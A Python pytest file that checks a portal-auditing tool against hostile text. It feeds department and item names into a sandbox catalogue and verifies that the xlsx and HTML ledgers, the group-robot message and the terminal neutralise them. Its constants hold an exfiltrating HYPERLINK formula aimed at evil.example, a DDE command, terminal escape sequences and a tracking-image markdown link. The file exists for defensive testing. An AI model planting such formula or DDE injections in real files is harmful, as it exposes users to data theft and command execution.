"""Portal text is untrusted (issue 19 items 2, 4, 5): hostile names on real sandbox pages, followed by a
real `shopper run` into the 整改台账 (xlsx, HTML), the group robot's message and the terminal.

The sandbox serves a catalogue whose departments (the guides' 实施主体) and one item name carry the
payloads (tests/support/portal_text.py points the run's sandbox at it): a HYPERLINK formula that would
send cell A1 to another host, a DDE command, and a name with terminal escape sequences (retitle the
window, clear the screen, move the cursor) and a spreadsheet-function start; the item name carries
a markdown link and a tracking image. The guide journey reads them from the page as a citizen sees
it; guide_missing_elements makes every sampled guide a finding charged to that 实施主体.
"""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.support.runs import ACCOUNTS
from tests.unit.test_ledger import Receiver

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.journeys

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
TERMINAL = "@SUM(1+1)\x1b]0;pwned\x07\x1b[2J\x1b[1;1H江澜省市场监督管理局"
ITEM_NAME = "居民身份证换领[点此领取补贴](http://evil.example/x)![](http://evil.example/t.png)"
HOSTILE_UNITS = {"gat": HYPERLINK, "rst": DDE, "scjgj": TERMINAL}
CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile_catalogue(tmp_path: Path) -> Path:
    data = json.loads((ROOT / "sandbox" / "data" / "catalogue.json").read_text(encoding="utf-8"))
    for dept in data["departments"]:
        dept["name"] = HOSTILE_UNITS.get(dept["code"], dept["name"])
    next(i for i in data["items"] if i["id"] == "gat-001")["name"] = ITEM_NAME
    path = tmp_path / "catalogue.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def profile(tmp_path: Path) -> Path:
    """The lean sandbox profile, sampling one guide of each hostile department."""
    text = (ROOT / "fixtures" / "portals" / "sandbox-matrix.yaml").read_text(encoding="utf-8")
    text = text.replace("guide_items: [gat-001, rst-001]", "guide_items: [gat-001, rst-001, scjgj-001]")
    text = text.replace("keywords: ../keywords/", f"keywords: {ROOT / 'fixtures' / 'keywords'}/")
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    receiver = Receiver()
    env = {**os.environ, **ACCOUNTS, "PYTHONPATH": str(ROOT), "PYTEST_ADDOPTS": "-p tests.support.portal_text",
           "SHOPPER_SANDBOX_CATALOGUE": str(hostile_catalogue(tmp)), "SHOPPER_WEBHOOK_URL": receiver.url,
           "SHOPPER_WEBHOOK_KIND": "wecom"}
    try:
        proc = subprocess.run([sys.executable, "-m", "shopper", "run", "--portal", str(profile(tmp)), "--journeys",
                               "guide", "--device", "desktop", "--defects", "guide_missing_elements",
                               "--reports-dir", str(tmp / "reports"), "--run-id", "hostile", "--no-report"],
                              cwd=ROOT, env=env, capture_output=True, timeout=600)
    finally:
        receiver.close()
    return proc, tmp / "reports" / "runs" / "hostile", receiver.received


def test_the_journeys_read_the_hostile_names_from_the_pages(run):
    proc, folder, _ = run
    out = proc.stdout.decode("utf-8", "replace")
    assert proc.returncode == 1, out[-3000:] + proc.stderr.decode("utf-8", "replace")[-2000:]
    records = [json.loads(p.read_text(encoding="utf-8")) for p in (folder / "records").rglob("*.json")]
    implementers = {r["observations"].get("implementer") for r in records}
    assert {HYPERLINK, DDE, TERMINAL} <= implementers, implementers     # the real text, as the page showed it
    assert any(ITEM_NAME in (r.get("failure_message") or "") for r in records)


def test_no_portal_text_becomes_a_formula_in_the_xlsx(run):
    _, folder, _ = run
    wb = load_workbook(folder / "整改台账.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells from portal text"
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
    assert {c.value for c in hostile} >= {HYPERLINK, DDE}                 # kept, readable, as text
    assert all(c.quotePrefix for c in hostile)                            # and stays text when edited
    for name in wb.sheetnames:
        assert not name.startswith(("=", "+", "-", "@")) and not CONTROL_RE.search(name), name
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and CONTROL_RE.search(c.value)]


def test_the_html_ledger_is_written_and_shows_the_escapes(run):
    _, folder, _ = run
    page = (folder / "整改台账.html").read_text(encoding="utf-8")
    assert not CONTROL_RE.search(page)
    assert "\\x1b]0;pwned\\x07" in page and "&#34;点此查看&#34;" in page and "<a href=\"http://evil" not in page


def test_the_robot_message_has_no_link_image_or_control_character(run):
    _, _, received = run
    assert len(received) == 1
    text = json.loads(received[0]["body"].decode("utf-8"))["markdown"]["content"]
    assert "](" not in text and "![" not in text and "http://" not in text and not CONTROL_RE.search(text)
    assert "［点此领取补贴］" in text                                       # shown, in full-width brackets


def test_the_terminal_gets_no_escape_sequence(run):
    proc, _, _ = run
    out = proc.stdout.decode("utf-8", "replace")
    assert "\x1b" not in out and "\x07" not in out, [line for line in out.splitlines() if "\x1b" in line][:3]
    assert "\\x1b]0;pwned" in out                                       # named, visibly
